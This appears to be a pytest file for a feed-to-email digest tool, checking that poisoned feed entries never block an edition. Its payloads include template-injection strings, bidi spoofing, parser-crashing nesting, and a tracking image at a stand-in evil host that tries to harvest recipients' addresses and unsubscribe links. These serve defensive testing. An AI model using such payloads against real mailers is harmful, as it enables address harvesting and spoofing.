"""One poisoned item never blocks an edition (issue 9, part 2).

Each kind of poison sits in a feed beside a good entry, on a real local HTTP server; the
real `digest run --once` collects it, makes the edition and sends it to a real SMTP server;
the messages every member received are read back with the email package. Then: an item
that still cannot be rendered (stored by an older version, straight into the database) is
left out and reported, and a template that fails marks the edition failed until it is
fixed, after which the next run sends it.
"""

from __future__ import annotations

import email
import html
import json
import re
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pytest

from tests.configs import write_feed_project
from tests.conftest import run_digest
from tests.feed_server import FeedServer, feed_server
from tests.mail_server import Accepted, smtp_server

MONDAY = "2019-03-18T09:00:00+01:00"
MEMBERS = ["anna@example.org", "jean@example.net"]
GOOD_TITLE = "Lyon pledges to support employment"
NO_MAIL = {"DIGEST_SMTP_URL": "smtp://127.0.0.1:9"}  # for commands that send nothing

# What no received message may carry, once its parts are decoded and its HTML unescaped:
# C0 controls but tab and line breaks, DEL, C1, lone surrogates, non-characters, bidi
# embeddings, overrides and isolates.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufdd0-\ufdef\ufffe\uffff"
    "\u202a-\u202e\u2066-\u2069]")


def rss_entry(title: str, slug: str, description: str) -> str:
    return (f"<item><title>{title}</title><link>https://city.example.org/{slug}</link>"
            f"<guid>https://city.example.org/{slug}</guid>"
            f"<description>{description}</description>"
            "<pubDate>Thu, 14 Mar 2019 10:00:00 +0100</pubDate></item>")


def rss(*entries: str) -> bytes:
    return ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>C'
            "</title><link>https://city.example.org/</link><description>d</description>"
            + "".join(entries) + "</channel></rss>").encode()


GOOD = rss_entry(GOOD_TITLE, "good", "Lyon signs the pledge.")


@dataclass(frozen=True)
class Poison:
    """A feed with one poisoned entry beside the good one, and what the reader must see
    of it (None: nothing of it is checked but the absence of what is forbidden)."""

    body: bytes
    media_type: str = "application/rss+xml"
    shown_title: str | None = None  # in the HTML and text parts, after cleaning
    shown_text: str | None = None  # in the text part
    shown_html: str | None = None  # in the HTML part, as written there (escaped)
    leaks: tuple[str, ...] = ()  # after these, no member's own address or link may follow


def _json_feed() -> bytes:
    # JSON's \ud800 escapes decode to lone surrogates (UTF-16 broken in half).
    document = ('{"version": "https://jsonfeed.org/version/1.1", "title": "C", "items": ['
                '{"id": "https://city.example.org/good", "url": "https://city.example.org/good",'
                f' "title": "{GOOD_TITLE}", "content_text": "Lyon signs the pledge.",'
                ' "date_published": "2019-03-14T10:00:00+01:00"},'
                '{"id": "https://city.example.org/bad", "url": "https://city.example.org/bad",'
                ' "title": "Half\\ud800 a pair\\udc00 here",'
                ' "content_html": "<p>Broken\\ud83d emoji &#xD800; text</p>",'
                ' "date_published": "2019-03-14T11:00:00+01:00"}]}')
    json.loads(document)  # valid JSON: the poison is in what it decodes to
    return document.encode()


POISONS = {
    # The reported case: a numeric character reference (escaped once more, as feeds do)
    # that the HTML sanitiser decodes into U+0001; raw C0 bytes and a form feed beside it.
    "controls-in-title-and-body": Poison(
        rss(GOOD, rss_entry("Alpha&amp;#1;Beta&amp;#x0B;Gamma \x1b\x0cDelta", "bad",
                            "Body &amp;#1; &amp;#x1F; &amp;#x7f; text\x07 &amp;#x85; end")),
        shown_title="AlphaBetaGamma Delta", shown_text="Body"),
    "lone-surrogates": Poison(_json_feed(), media_type="application/feed+json",
                              shown_title="Half a pair here", shown_text="Broken emoji"),
    "megabyte-title": Poison(
        rss(GOOD, rss_entry("Long " + "word " * 200_000, "bad", "A normal body.")),
        shown_title="Long word word", shown_text="A normal body."),
    "mjml-tags": Poison(
        # Markup in a title is dropped (titles are plain text); text that reads as MJML
        # (escaped twice in the XML) stays, as text.
        rss(GOOD, rss_entry("&lt;mj-raw&gt;Raw&lt;/mj-raw&gt; &amp;lt;/mj-text&amp;gt; title",
                            "bad",
                            "&lt;p&gt;&amp;lt;/mj-column&amp;gt;&amp;lt;mj-section&amp;gt;"
                            "shown as text&lt;/p&gt;")),
        shown_title="Raw </mj-text> title",
        shown_text="</mj-column><mj-section>shown as text",
        shown_html="&lt;mj-section&gt;shown as text"),
    "jinja-delimiters": Poison(
        rss(GOOD, rss_entry("{{ 7 * 7 }} and {% if true %}x{% endif %} {# c #}", "bad",
                            "{{ site.title }} {% raw %} {{ PLACEHOLDERS }}")),
        shown_title="{{ 7 * 7 }} and {% if true %}x{% endif %} {# c #}",
        shown_text="{{ site.title }} {% raw %} {{ PLACEHOLDERS }}"),
    "cdata-end-markers": Poison(
        rss(GOOD, rss_entry("<![CDATA[End ]]]]><![CDATA[> marker]]>", "bad",
                            "<![CDATA[<p>before ]]]]><![CDATA[> after <![CDATA[x</p>]]>")),
        shown_title="End ]]> marker", shown_text="before ]]> after"),
    # The per-recipient markers, forged in a feed: a tracking image that would collect every
    # member's address, text that would show their unsubscribe link (whose token acts).
    "placeholder-markers": Poison(
        rss(GOOD, rss_entry("Dear %%NAME%% news", "bad",
                            '&lt;p&gt;&lt;img src="https://evil.example/p.gif?e=%%EMAIL%%"&gt;'
                            "Unsubscribe at %%UNSUBSCRIBE_URL%% or %%PREFERENCES_URL%%"
                            "&lt;/p&gt;")),
        shown_text="Unsubscribe at %", leaks=("p.gif?e=", "Unsubscribe at ", "news")),
    # 10 000 nested elements (70 KB): mjml-python's parser overflows its stack and the
    # process dies (SIGSEGV), which no exception handler can catch.
    "deep-nesting": Poison(
        rss(GOOD, rss_entry("Deep", "bad", "&lt;p&gt;" + "&lt;b&gt;" * 10_000 + "Deep text"
                            + "&lt;/b&gt;" * 10_000 + "&lt;/p&gt;")),
        shown_title="Deep", shown_text="Deep text"),
    "bidi-overrides": Poison(
        rss(GOOD, rss_entry("Safe\u202etxt.exe\u202c title \u2066isolated\u2069", "bad",
                            "Pay \u202eaccount 0123\u202c now \u2067x\u2069")),
        shown_title="Safetxt.exe title isolated", shown_text="Pay account 0123 now x"),
}


def write_project(root: Path, sources: str) -> None:
    write_feed_project(root, sources, transport="smtp")
    (root / "members.csv").write_text(
        "email,name,language,digests,themes\n"
        f"{MEMBERS[0]},Anna,en,weekly,\n{MEMBERS[1]},Jean,fr,weekly,\n")


@pytest.fixture
def server() -> Iterator[FeedServer]:
    with feed_server() as running:
        yield running


def parts(message: Accepted) -> tuple[EmailMessage, str, str]:
    """The message, its HTML part (unescaped: what a reader sees) and its text part."""
    parsed = email.message_from_bytes(message.data, policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    html_part = parsed.get_body(("html",))
    text_part = parsed.get_body(("plain",))
    assert html_part is not None and text_part is not None
    return parsed, str(html_part.get_content()), str(text_part.get_content())


def assert_clean(message: Accepted) -> None:
    """Nothing forbidden anywhere: headers, HTML (raw and unescaped), text."""
    parsed, html_text, plain = parts(message)
    for name, value in parsed.items():
        assert not FORBIDDEN.search(str(value)), (name, value)
    for where, text in (("html", html_text), ("unescaped html", html.unescape(html_text)),
                        ("text", plain)):
        found = FORBIDDEN.search(text)
        assert found is None, f"{where} carries U+{ord(found.group()):04X}"


@pytest.mark.parametrize("kind", sorted(POISONS))
def test_a_poisoned_entry_never_blocks_the_edition(tmp_path: Path, server: FeedServer,
                                                   kind: str) -> None:
    poison = POISONS[kind]
    server.feed("/feed", poison.body, media_type=poison.media_type)
    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
    with smtp_server() as (handler, url):
        env = {"DIGEST_SMTP_URL": url}
        result = run_digest(tmp_path, "run", "--once", now=MONDAY, env=env)
        assert result.returncode == 0, result.stdout + result.stderr
        assert "source news: 2 new" in result.stdout
        status = run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
    assert "weekly/1 [sent] Weekly: 2 sent" in status
    assert handler.recipients() == sorted(MEMBERS)
    for message in handler.accepted:
        assert_clean(message)
        _, html_text, plain = parts(message)
        assert GOOD_TITLE in plain and GOOD_TITLE in html_text
        if poison.shown_title:
            assert poison.shown_title in plain
            assert html.escape(poison.shown_title, quote=False) in html_text
        if poison.shown_text:
            assert poison.shown_text in plain
        if poison.shown_html:
            assert poison.shown_html in html_text
        member = message.rcpt_tos[0]
        for before in poison.leaks:
            for part in (html_text, html.unescape(html_text), plain):
                for following in part.split(before)[1:]:
                    near = following[:120]
                    assert member not in near and "/digest/u/" not in near, near
                    assert "/digest/p/" not in near and "Anna" not in near and "Jean" not in near
    # The feeds are XML: what would break a reader's parser is not in them either.
    atom = (tmp_path / "feeds" / "all.atom").read_text(encoding="utf-8")
    assert not FORBIDDEN.search(html.unescape(atom))


def test_a_megabyte_title_is_cut_at_collection_with_an_ellipsis(
        tmp_path: Path, server: FeedServer) -> None:
    server.feed("/feed", POISONS["megabyte-title"].body)
    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
    assert run_digest(tmp_path, "collect", now=MONDAY, env=NO_MAIL).returncode == 0
    with sqlite3.connect(tmp_path / "var" / "digest.db") as connection:
        titles = [row[0] for row in connection.execute("SELECT title FROM items")]
    long_title = next(t for t in titles if t.startswith("Long"))
    assert len(long_title) <= 300 and long_title.endswith("…")


def _store_item(database: Path, key: str, title: str, summary_html: str) -> None:
    """An item as an older version stored it: nothing of today's cleaning applied."""
    with sqlite3.connect(database) as connection:
        connection.execute(
            "INSERT INTO items (key, kind, title, link, summary_html, published, themes,"
            " source_id, content_hash, first_seen, last_seen) VALUES (?, 'news', ?, ?, ?,"
            " '2019-03-15 09:00:00.000000', '[]', 'news', 'x', '2019-03-17 09:00:00.000000',"
            " '2019-03-17 09:00:00.000000')", (key, title, key, summary_html))


def test_an_item_that_cannot_be_rendered_is_left_out_and_reported(
        tmp_path: Path, server: FeedServer) -> None:
    server.feed("/feed", rss(GOOD))
    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
    assert run_digest(tmp_path, "collect", now="2019-03-17T10:00:00+01:00",
                      env=NO_MAIL).returncode == 0
    database = tmp_path / "var" / "digest.db"
    # A raw control (scrubbed when read back) and a CDATA end marker in the HTML, which
    # MJML refuses and no scrubbing of characters can know about.
    _store_item(database, "https://old.example.org/controls", "Old\x01 con\u202etrols",
                "<p>old \x0b text</p>")
    _store_item(database, "https://old.example.org/cdata", "Old CDATA", "<p>a ]]> b</p>")
    with smtp_server() as (handler, url):
        env = {"DIGEST_SMTP_URL": url}
        result = run_digest(tmp_path, "run", "--once", now=MONDAY, env=env)
        status = run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
        again = run_digest(tmp_path, "run", "--once", now=MONDAY, env=env)
    assert result.returncode == 1, result.stdout + result.stderr
    assert ("problem: weekly/1: left out item https://old.example.org/cdata from source "
            "'news': MJML could not be compiled") in result.stdout
    assert "weekly/1: 2 items" in result.stdout
    assert "weekly/1 [sent] Weekly: 2 sent" in status
    assert ("    left out: item https://old.example.org/cdata from source 'news' (it cannot "
            "be rendered): MJML could not be compiled") in status
    assert handler.recipients() == sorted(MEMBERS)
    for message in handler.accepted:
        assert_clean(message)
        _, _, plain = parts(message)
        assert GOOD_TITLE in plain and "Old controls" in plain and "Old CDATA" not in plain
    assert again.returncode == 0 and "messages sent: 0" in again.stdout


BROKEN_ITEM = "{{ item.not_there }}\n"


def test_a_template_failure_marks_the_edition_failed_until_it_is_fixed(
        tmp_path: Path, server: FeedServer) -> None:
    server.feed("/feed", rss(GOOD, rss_entry("Turin panel", "turin", "Three ideas.")))
    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
    template = tmp_path / "templates" / "email" / "_item.mjml.j2"
    template.parent.mkdir(parents=True)
    template.write_text(BROKEN_ITEM)
    with smtp_server() as (handler, url):
        env = {"DIGEST_SMTP_URL": url}
        first = run_digest(tmp_path, "run", "--once", now=MONDAY, env=env)
        assert first.returncode == 1
        assert "weekly/1: cannot be rendered, nothing sent:" in first.stdout
        assert "_item.mjml.j2:1: undefined in the template" in first.stdout
        status = run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
        assert "weekly/1 [failed] Weekly: 2 pending" in status
        assert "    cannot be rendered: " in status and "_item.mjml.j2:1" in status
        later = run_digest(tmp_path, "run", "--once", now="2019-03-18T10:00:00+01:00",
                           env=env)
        assert later.returncode == 1 and "weekly/1: cannot be rendered" in later.stdout
        assert handler.accepted == []
        template.unlink()  # the fix: the default template again
        fixed = run_digest(tmp_path, "run", "--once", now="2019-03-18T11:00:00+01:00",
                           env=env)
        assert fixed.returncode == 0, fixed.stdout + fixed.stderr
        status = run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
    assert "weekly/1 [sent] Weekly: 2 sent" in status and "cannot be rendered" not in status
    assert handler.recipients() == sorted(MEMBERS)
    _, _, plain = parts(handler.accepted[0])
    assert GOOD_TITLE in plain and "Turin panel" in plain
    assert (tmp_path / "out" / "editions" / "weekly" / "1" / "index.html").is_file()


def test_digest_send_retries_a_failed_edition_after_the_fix(
        tmp_path: Path, server: FeedServer) -> None:
    server.feed("/feed", rss(GOOD))
    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
    layout = tmp_path / "templates" / "email" / "_layout.mjml.j2"
    layout.parent.mkdir(parents=True)
    layout.write_text("{{ no_such_value }}\n")
    with smtp_server() as (handler, url):
        env = {"DIGEST_SMTP_URL": url}
        assert run_digest(tmp_path, "run", "--once", now=MONDAY, env=env).returncode == 1
        still = run_digest(tmp_path, "send", "weekly/1", now=MONDAY, env=env)
        assert still.returncode != 0 and "cannot be rendered" in still.stderr
        assert "[failed]" in run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
        layout.unlink()
        sent = run_digest(tmp_path, "send", "weekly/1", now=MONDAY, env=env)
        assert sent.returncode == 0, sent.stdout + sent.stderr
        assert "weekly/1: rendered, now sent; 2 sent" in sent.stdout
    assert handler.recipients() == sorted(MEMBERS)


def test_an_edition_stranded_sending_by_an_older_version_is_sent_or_marked_failed(
        tmp_path: Path, server: FeedServer) -> None:
    server.feed("/feed", rss(GOOD, rss_entry("Turin panel", "turin", "Three ideas.")))
    write_project(tmp_path, f'  - {{id: news, type: feed, url: "{server.url("/feed")}"}}')
    with smtp_server() as (handler, url):
        env = {"DIGEST_SMTP_URL": url}
        handler.mail_answer = "451 4.3.0 try again later"  # the edition stays sending
        first = run_digest(tmp_path, "run", "--once", now=MONDAY, env=env)
        assert "weekly/1: 0 refused, 2 deferred" in first.stdout, first.stdout
        # What an older version stored for the reported entry: raw controls in the text.
        with sqlite3.connect(tmp_path / "var" / "digest.db") as connection:
            connection.execute("UPDATE items SET title = title || char(1),"
                               " summary_html = '<p>x' || char(11) || '&#1; y</p>'")
        template = tmp_path / "templates" / "email" / "_item.mjml.j2"
        template.parent.mkdir(parents=True)
        template.write_text(BROKEN_ITEM)
        handler.mail_answer = None
        broken = run_digest(tmp_path, "run", "--once", now="2019-03-18T10:00:00+01:00",
                            env=env)
        assert broken.returncode == 1 and "weekly/1: cannot be rendered" in broken.stdout
        status = run_digest(tmp_path, "status", now=MONDAY, env=env).stdout
        assert "weekly/1 [failed] Weekly: 2 pending" in status and "_item.mjml.j2:1" in status
        assert handler.accepted == []
        template.unlink()
        fixed = run_digest(tmp_path, "run", "--once", now="2019-03-18T11:00:00+01:00",
                           env=env)
        assert fixed.returncode == 0, fixed.stdout + fixed.stderr
        assert "weekly/1 [sent] Weekly: 2 sent" in run_digest(
            tmp_path, "status", now=MONDAY, env=env).stdout
    assert handler.recipients() == sorted(MEMBERS)
    for message in handler.accepted:
        assert_clean(message)
        assert "x y" in parts(message)[2]
